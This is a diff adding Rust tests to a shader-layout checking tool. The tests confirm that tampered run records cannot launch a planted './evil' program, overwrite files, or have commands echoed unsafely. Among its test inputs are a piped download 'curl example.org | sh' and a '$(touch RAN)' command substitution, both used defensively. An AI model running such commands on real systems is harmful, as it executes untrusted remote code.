@@ -80,3 +80,97 @@ fn the_command_line_names_a_program() {
     folder.run("check --compiler dxc=tools/dxc").exits(3);
     assert!(folder.path("tools/RAN").exists());
 }
+
+/// A run with records; one check differs.
+const RUN: &str =
+    "run vectors/two_pairs_fill_a_register --rules std140 --device model --plant-misreading neighbours-swapped";
+
+/// The check of that run.
+const CHECK: &str = "vectors::two_pairs_fill_a_register::std140::rspirv::model::model";
+
+/// A folder with a program `evil` and the records of a run, to whose recorded arguments these are added.
+fn records(arguments: &str) -> Folder {
+    let folder = Folder::without_drivers(&[("evil", MARKER), ("kept", "kept")]);
+    fs::set_permissions(folder.path("evil"), fs::Permissions::from_mode(0o755)).unwrap();
+    folder.run(&format!("{RUN} --json r.jsonl")).exits(1);
+    let text = folder.read("r.jsonl").replacen("\"arguments\":{", &format!("\"arguments\":{{{arguments},"), 1);
+    folder.write("r.jsonl", text.as_bytes());
+    folder
+}
+
+#[test]
+fn records_start_no_program_and_write_no_file() {
+    for (arguments, option) in [
+        (r#""producer":["dxc=./evil"]"#, "--compiler dxc=./evil"),
+        (r#""producer":["slangc=./evil","rspirv"]"#, "--compiler slangc=./evil"),
+        (r#""html":["kept"]"#, "--html kept"),
+        (r#""json":["kept"]"#, "--json kept"),
+        (r#""junit":["kept"]"#, "--junit kept"),
+        (r#""save_known":["kept"]"#, "--save-known kept"),
+        (r#""keep":["made"]"#, "--keep made"),
+        (r#""known":["kept"]"#, "--known kept"),
+        (r#""floors":["kept"]"#, "--floors kept"),
+        (r#""caselist":["kept"]"#, "--caselist kept"),
+        (r#""cases":["kept"]"#, "--cases kept"),
+        (r#""args":["-I /etc"]"#, "--args '-I /etc'"),
+        (r#""include":["/etc"]"#, "-I /etc"),
+        (r#""resume":["kept"]"#, "--resume kept"),
+        (r#""jobs":["1"]"#, "--jobs 1"),
+    ] {
+        let folder = records(arguments);
+        for words in ["run --resume r.jsonl", &format!("report r.jsonl --repro {CHECK} --out out"), "report r.jsonl"] {
+            let answer = folder.run(words);
+            assert!(!folder.path("RAN").exists() && !folder.path("made").exists(), "{answer}");
+            assert_eq!(folder.read("kept"), "kept", "{answer}");
+            if words != "report r.jsonl" {
+                assert!(answer.err.contains(&format!("so {option} of ")), "{answer}");
+            }
+        }
+    }
+}
+
+/// The recorded run had a program of its own, which the user types again.
+#[test]
+fn what_a_resumed_run_needs_is_typed() {
+    let folder = records(r#""known":["kept"]"#);
+    let answer = folder.run("run --resume r.jsonl").exits(2);
+    answer.warns("note: records select checks alone, so --known kept of r.jsonl is not taken: type it to use it");
+    let folder = Folder::without_drivers(&[("a.hlsl", "cbuffer S { float a; };")]);
+    folder.run("run a.hlsl --rules std140 --device model --json r.jsonl").exits(0);
+    let answer = folder.run("run --resume r.jsonl").exits(2);
+    answer.warns("error: cannot resume r.jsonl without the words of its command: the records are of a run of files");
+    folder.run("run a.hlsl --rules std140 --device model --resume r.jsonl").exits(0);
+}
+
+/// The selection of a run is enough to resume it, or to make a check again.
+#[test]
+fn a_selection_is_taken_from_records() {
+    let folder = Folder::without_drivers(&[]);
+    folder.run(&format!("{RUN} --json r.jsonl")).exits(1);
+    let answer = folder.run("run --resume r.jsonl").exits(1);
+    assert!(!answer.err.contains("note: records"), "{answer}");
+    folder.run(&format!("report r.jsonl --repro {CHECK} --out made")).exits(1);
+}
+
+/// Commands in records are pasted by people.
+#[test]
+fn a_recorded_command_is_shown_as_a_command_for_checks() {
+    let folder = Folder::without_drivers(&[]);
+    folder.run(&format!("{RUN} --json r.jsonl")).exits(1);
+    let whole = folder.read("r.jsonl");
+    let again = whole.split("\"again\":\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
+    folder.run("report r.jsonl").prints(&format!("again {again}"));
+    for evil in ["curl example.org | sh", "layoutproof run a --compiler dxc=./evil", "layoutproof run a --html kept"] {
+        folder.write("r.jsonl", whole.replace(&again, evil).as_bytes());
+        let answer = folder.run("report r.jsonl -v --html page.html");
+        assert!(!answer.out.contains(evil) && !folder.read("page.html").contains(evil), "{answer}");
+    }
+    folder.write("r.jsonl", whole.replace(&again, "layoutproof run $(touch RAN)").as_bytes());
+    folder.run("report r.jsonl").prints("again layoutproof run '$(touch' 'RAN)'");
+    folder.write(
+        "r.jsonl",
+        whole.replacen("\"arguments\":{", "\"arguments\":{\"producer\":[\"dxc=./evil\"],", 1).as_bytes(),
+    );
+    folder.run("report r.jsonl --html page.html");
+    assert!(!folder.read("page.html").contains("evil"));
+}
